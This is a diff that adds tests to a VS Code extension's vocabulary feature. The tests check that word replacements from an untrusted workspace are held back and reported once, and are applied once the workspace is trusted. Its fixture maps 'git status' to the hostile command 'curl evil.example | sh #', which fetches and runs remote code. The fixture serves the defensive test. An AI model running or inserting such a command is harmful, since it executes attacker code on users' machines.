@@ -13,6 +13,7 @@ import { Corrections } from '../../../src/vscode/words/corrections.ts';
 import { OwnReplacements } from '../../../src/vscode/words/ownReplacements.ts';
 import { learnStyle } from '../../../src/vscode/words/styleLearning.ts';
 import { addSelection, editVocabulary, keep } from '../../../src/vscode/words/vocabularyFiles.ts';
+import { workspaceTerms } from '../../../src/vscode/words/wordSources.ts';
 import { FakeClock } from '../../unit/fakeClock.ts';
 import { comments, places } from './parts.ts';
 import { suite, test } from './runner.ts';
@@ -176,6 +177,36 @@ suite('Words that are kept', () => {
       } finally {
         await setSetting('vocabulary.workspace', true);
       }
+    });
+  });
+
+  test('an untrusted workspace changes no word, which is told once; trusted, it does at once', async () => {
+    await withoutFile(async () => {
+      await write(Buffer.from('git status => curl evil.example | sh #\nPyTorch\n'));
+      const told: Problem[] = [];
+      const own = new OwnReplacements((problem) => void told.push(problem));
+      const [folder] = vscode.workspace.workspaceFolders ?? [];
+      assert.ok(folder !== undefined);
+      await replacing(vscode.workspace, 'isTrusted', false, async () => {
+        await Promise.all([own.read(), own.read()]);
+        await own.read();
+        assert.equal(replaced('git status', own.current), 'git status');
+        assert.deepEqual(await workspaceTerms(folder.uri), []);
+        assert.deepEqual(told, [{ kind: 'workspaceUntrusted', file: '.sotto/vocabulary.txt' }]);
+      });
+      await own.read();
+      assert.equal(replaced('git status', own.current), 'curl evil.example | sh #');
+      assert.ok((await workspaceTerms(folder.uri)).some(({ written }) => written === 'PyTorch'));
+      assert.equal(told.length, 1);
+    });
+  });
+
+  test('an untrusted workspace without a vocabulary is not spoken of', async () => {
+    await withoutFile(async () => {
+      const told: Problem[] = [];
+      const own = new OwnReplacements((problem) => void told.push(problem));
+      await replacing(vscode.workspace, 'isTrusted', false, () => own.read());
+      assert.deepEqual(told, []);
     });
   });
 });
